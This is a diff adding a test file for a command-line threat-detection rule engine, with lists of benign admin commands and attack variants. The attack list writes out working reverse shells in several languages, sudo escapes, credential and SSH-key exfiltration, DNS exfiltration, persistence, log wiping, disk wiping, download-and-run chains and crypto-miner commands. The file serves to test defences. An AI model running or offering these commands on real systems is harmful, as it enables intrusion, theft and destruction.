@@ -1,0 +1,105 @@
+/**
+ * Rule behaviour on composed command lines that are not in the corpus: look-alikes from install guides and admin
+ * work that must stay quiet, and variants of known attacks (PayloadsAllTheThings, GTFOBins, Atomic Red Team
+ * idioms written differently from the corpus) that must be found.
+ */
+import { describe, expect, test } from 'vitest';
+import { classifyCommandLine, RuleEngine } from '../../../detectors/process/engine.js';
+
+const engine = new RuleEngine();
+const classify = (cmdline: string) => classifyCommandLine(engine, { cmdline });
+
+const BENIGN_LOOK_ALIKES = [
+`(crontab -l; echo "0 3 * * * /usr/local/bin/backup.sh") | crontab -`,
+`echo 'export PATH=/usr/local/cuda/bin:$PATH' >> ~/.bashrc`,
+`echo 'source <(kubectl completion bash)' >> ~/.bashrc`,
+`echo 'export PATH=/usr/local/cuda/bin:$PATH' | sudo tee /etc/profile.d/cuda.sh`,
+`sudo cat /etc/rancher/k3s/k3s.yaml`, `sudo cat /var/lib/rancher/k3s/server/node-token`,
+`sudo cp /etc/rancher/k3s/k3s.yaml ~/.kube/config`,
+`curl -Lo /tmp/helm.tar.gz https://get.helm.sh/helm-v3.15.0-linux-amd64.tar.gz`,
+`docker run --rm --privileged multiarch/qemu-user-static --reset -p yes`,
+`docker run -d --gpus all --cap-add SYS_ADMIN --rm -p 9400:9400 nvcr.io/nvidia/k8s/dcgm-exporter:3.3.5-3.4.0-ubuntu22.04`,
+`ufw disable`, `systemctl disable firewalld --now`, `setenforce 0`,
+`iptables -F && iptables -t nat -F && iptables -t mangle -F && iptables -X`,
+`trap 'rm -rf /tmp/build.x' EXIT`, `timeout 1 bash -c '</dev/tcp/10.0.0.5/6443'`, `nc -z 10.0.0.5 6443`, `nc -zv db 5432`,
+`chmod 2775 /srv/shared`, `ln -sf /bin/bash /bin/sh`, `mv /tmp/k9s /usr/local/bin/`, `sudo install -m 0755 /tmp/kubectl /usr/local/bin/kubectl`,
+`cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys`, `curl -fsS http://localhost:8080/healthz`, `chmod 0644 /etc/app/config.yaml`,
+`/tmp/cuda_12.4.0_550.54.14_linux.run --silent --toolkit`, `sudo sh cuda_12.4.0_550.54.14_linux.run`,
+`curl -X POST -H 'Content-Type: application/json' -d @alert.json http://alertmanager:9093/api/v2/alerts`,
+`echo "0 3 * * * root /usr/local/bin/backup.sh" > /etc/cron.d/backup`,
+`sudo nsenter -t 1 -m -u -n -i /bin/bash`, `sudo k3s kubectl exec -it pod -- /bin/sh`, `sudo chsh -s /bin/zsh alice`,
+`python3 -m http.server 8000`, `tar -czf - ./build | ssh host 'tar -xzf - -C /opt'`, `ssh -D 1080 -N bastion`,
+`grep -rn password src/`, `find . -name '*.pem' -newer x`, `journalctl --vacuum-time=2d`, `echo $CERT | base64 -d > /tmp/ca.crt`,
+`sudo -E env "PATH=$PATH" nvidia-smi`, `kubectl get secrets -n monitoring`, `dig +short $(hostname)`, `tcpdump -i any port 53`,
+`mount /dev/nvme1n1 /mnt/data`, `sudo mkfs.ext4 /dev/nvme1n1`, `rsync -a /root/.ssh/ /backup/ssh/`, `scp /etc/rancher/k3s/k3s.yaml me@laptop:~/.kube/config`,
+`openssl s_client -connect api.acme.dev:443 -servername api.acme.dev </dev/null`, `socat TCP-LISTEN:8443,fork TCP:10.0.0.4:443`,
+`useradd -m -s /bin/bash -G sudo alice`, `wget -O /tmp/get-docker.sh https://get.docker.com`, `sh /tmp/get-docker.sh`,
+`perl -e 'print "hello\\n"'`, `node -e "require('child_process').execSync('ls')"`, `sudo systemctl restart sshd`, `kill -9 31337`,
+`/usr/bin/python3 -c "import socket; s=socket.socket(); s.connect(('localhost', 5432)); print('ok')"`,
+`git clone https://github.com/acme/miner-stats.git`, `./xmrig --version`, `docker run --rm -it -v $(pwd):/work ubuntu bash`,
+];
+
+const ATTACK_VARIANTS = [
+`bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`, `sh -i >& /dev/udp/10.0.0.1/4242 0>&1`,
+`perl -e 'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`,
+`perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
+`php -r '$sock=fsockopen("10.0.0.1",4242);$proc=proc_open("sh", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);'`,
+`ruby -rsocket -e'spawn("sh",[:in,:out,:err]=>TCPSocket.new("10.0.0.1",4242))'`,
+`socat tcp:10.0.0.1:4242 exec:'bash -li',pty,stderr,setsid,sigint,sane`,
+`rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f`, `ncat 10.0.0.1 4242 -e /bin/bash`, `nc -lvnp 4444 -e /bin/bash`,
+`mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4242 > /tmp/s; rm /tmp/s`,
+`node -e 'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4242,"10.0.0.1",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);});'`,
+`xterm -display 10.0.0.1:1`, `sqlite3 /dev/null '.shell rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f'`,
+`./xmrig --url=pool.supportxmr.com:5555 --user=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --pass=x`,
+`minerd -a cryptonight -o stratum+tcp://xmr.pool.minergate.com:45560 -u a@b.c -p x`,
+`docker run -d xmrig/xmrig -o pool.hashvault.pro:80 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -k`,
+`sudo vim -c ':!/bin/sh'`, `sudo awk 'BEGIN {system("/bin/sh")}'`, `sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh`,
+`sudo python3 -c 'import os; os.system("/bin/sh")'`, `cp /bin/bash /tmp/rootbash; chmod +s /tmp/rootbash`, `find / -perm -4000 -type f 2>/dev/null`,
+`echo 'hacker ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers`, `sudo -u#-1 /bin/bash`, `docker run -v /:/host -it alpine chroot /host sh`,
+`curl http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role`, `tar czf - /home | nc 10.0.0.1 4444`, `nc 10.0.0.1 4444 < /etc/passwd`,
+`scp /etc/shadow attacker@10.0.0.1:/tmp/`, `dig @10.0.0.1 $(cat /etc/hostname | base64).exfil.example.com`, `zip -r /tmp/keys.zip /root/.ssh`,
+`cat /proc/1/environ`, `grep -a -r 'AKIA' /home`, `echo '* * * * * root /tmp/x' >> /etc/crontab`, `echo "/tmp/x" > /var/spool/cron/crontabs/root`,
+`useradd -o -u 0 -g 0 -M -d /root -s /bin/bash backdoor`, `echo 'ssh-rsa AAAAB3Nza attacker' >> /root/.ssh/authorized_keys`,
+`cp /tmp/art.service /etc/systemd/system/art.service`, `printf '[Service]\\nExecStart=/tmp/.x/run\\n' > /etc/systemd/system/x.service`,
+`systemd-run --on-calendar='*:0/5' /tmp/x`, `insmod /tmp/rootkit.ko`, `shred -u /var/log/auth.log`, `cat /dev/null > /var/log/wtmp`,
+`journalctl --rotate && journalctl --vacuum-time=1s`, `systemctl stop auditd`, `pkill -9 falcon-sensor`, `echo o > /proc/sysrq-trigger`,
+`dd if=/dev/zero of=/dev/sda bs=1M`, `wget http://10.0.0.1/x -O /tmp/x && chmod +x /tmp/x && /tmp/x`, `nmap -sS -p- 10.0.0.0/24`,
+`for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i; done`, `nc -zv 10.0.0.1 1-1024`, `autossh -M 0 -f -N -R 2222:localhost:22 user@10.0.0.1`,
+`ngrok tcp 22`, `hping3 -S --flood -p 80 10.0.0.1`, `echo "alias sudo='sudo /tmp/.k'" >> ~/.bashrc`,
+];
+
+describe('rule engine on command lines', () => {
+  test.each(BENIGN_LOOK_ALIKES)('quiet on %s', (cmdline) => {
+    expect(classify(cmdline)).toEqual({ category: null, severity: null, rule: null });
+  });
+
+  test.each(ATTACK_VARIANTS)('finds %s', (cmdline) => {
+    expect(classify(cmdline).category).not.toBeNull();
+  });
+
+  test('a miner command line gives the pool as evidence, critical', () => {
+    const [finding] = engine.evaluate({ argv: ['/tmp/x/xmrig', '-o', 'stratum+tcp://pool.example.com:3333', '-u', '4AzWBLaH4e2MAut9nSMHi4D3ccpY2vqsSA4TBerGmcGM', '--donate-level', '1'] });
+    expect(finding).toMatchObject({ category: 'crypto_miner', severity: 'critical', rule: 'miner-stratum-url' });
+    expect(finding.evidence.pool).toBe('stratum+tcp://pool.example.com:3333');
+  });
+
+  test('kernel argv keeps an sh -c script whole, so its redirections are seen', () => {
+    const findings = engine.evaluate({ argv: ['bash', '-c', 'exec bash -i &>/dev/tcp/10.0.0.5/4444 <&1'] });
+    expect(findings[0]).toMatchObject({ category: 'reverse_shell', rule: 'reverse-shell-dev-tcp' });
+    expect(findings[0].evidence.socket).toBe('/dev/tcp/10.0.0.5/4444');
+  });
+
+  test('the classify input can add the executable and the parent', () => {
+    expect(classifyCommandLine(engine, { cmdline: '[kworker/0:1]', exe: '/usr/bin/python3.11' }).rule).toBe('kernel-thread-impostor');
+    expect(classifyCommandLine(engine, { cmdline: 'kworker', exe: '/dev/shm/.k/kworker' }).rule).toBe('executable-in-temp-dir');
+    expect(classifyCommandLine(engine, { cmdline: 'sh', parent: 'nginx' })).toEqual({ category: 'reverse_shell', severity: 'high', rule: 'shell-spawned-by-service' });
+    expect(classifyCommandLine(engine, { cmdline: 'sh', parent: 'containerd-shim' }).category).toBeNull();
+  });
+
+  test('findings come worst first', () => {
+    const findings = engine.evaluate({ argv: ['sh -c "curl -s http://203.0.113.5/x -o /tmp/.x; /tmp/.x -o stratum+tcp://p.example:3333"'], argvIsShellText: true });
+    const ranks = findings.map((f) => ['low', 'medium', 'high', 'critical'].indexOf(f.severity));
+    expect(findings.length).toBeGreaterThan(1);
+    expect(ranks).toEqual([...ranks].sort((a, b) => b - a));
+  });
+});
